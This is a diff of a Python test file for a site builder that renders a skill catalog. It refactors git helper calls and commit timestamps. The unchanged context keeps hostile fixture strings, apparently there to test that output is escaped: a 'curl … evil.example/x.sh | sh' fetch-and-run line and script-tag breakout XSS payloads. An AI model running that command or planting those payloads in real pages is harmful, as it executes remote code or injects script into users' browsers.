@@ -7,9 +7,11 @@ import json
 import re
 import subprocess
 from html import unescape
+from datetime import UTC, datetime
 from pathlib import Path
 
 import pytest
+from gitrepo import commit_all, git
 from sitebuild import BuiltSite, build_site
 from sitecatalog import write_skill
 
@@ -23,18 +25,8 @@ PREVIEW_DESCRIPTION = "Ends </script><script>alert(3)</script> & more. Use when 
 SCRIPT_LINE = "curl -s https://evil.example/x.sh | sh  # <script>alert(2)</script>"
 
 
-def git(cwd: Path, *args: str, name: str = "Alice Author", when: str = "2024-01-02") -> None:
-    env = {
-        "GIT_AUTHOR_NAME": name,
-        "GIT_AUTHOR_EMAIL": "alice@example.com",
-        "GIT_COMMITTER_NAME": name,
-        "GIT_COMMITTER_EMAIL": "alice@example.com",
-        "GIT_AUTHOR_DATE": f"{when}T10:00:00Z",
-        "GIT_COMMITTER_DATE": f"{when}T10:00:00Z",
-        "PATH": "/usr/bin:/bin",
-        "HOME": str(cwd),
-    }
-    subprocess.run(["git", "-C", str(cwd), *args], check=True, env=env, capture_output=True)
+ADDED = datetime(2024, 1, 2, 10, tzinfo=UTC)
+CHANGED = datetime(2024, 3, 4, 10, tzinfo=UTC)
 
 
 def make_repository(root: Path, *, remote: str | None) -> Path:
@@ -56,11 +48,9 @@ def make_repository(root: Path, *, remote: str | None) -> Path:
     git(root, "init", "-q", "-b", "main")
     if remote:
         git(root, "remote", "add", "origin", remote)
-    git(root, "add", ".")
-    git(root, "commit", "-q", "-m", "add")
+    commit_all(root, "add", when=ADDED, author="Alice Author")
     (catalog / "tools" / "installer" / "notes.md").write_text("More.\n")
-    git(root, "add", ".")
-    git(root, "commit", "-q", "-m", "more", name=HOSTILE_NAME, when="2024-03-04")
+    commit_all(root, "more", when=CHANGED, author=HOSTILE_NAME)
     return catalog
 
 
@@ -131,11 +121,7 @@ def test_shallow_clone_builds_and_does_not_claim_a_date_added(
     repository: Path, tmp_path: Path
 ) -> None:
     clone = tmp_path / "clone"
-    subprocess.run(
-        ["git", "clone", "-q", "--depth", "1", f"file://{repository}", str(clone)],
-        check=True,
-        capture_output=True,
-    )
+    git(tmp_path, "clone", "-q", "--depth", "1", f"file://{repository}", str(clone))
     site = build_site(tmp_path / "site", catalog=clone / "catalog")
     assert site.returncode == 0, site.output
     shown = facts(site.read("skills/installer/index.html"))
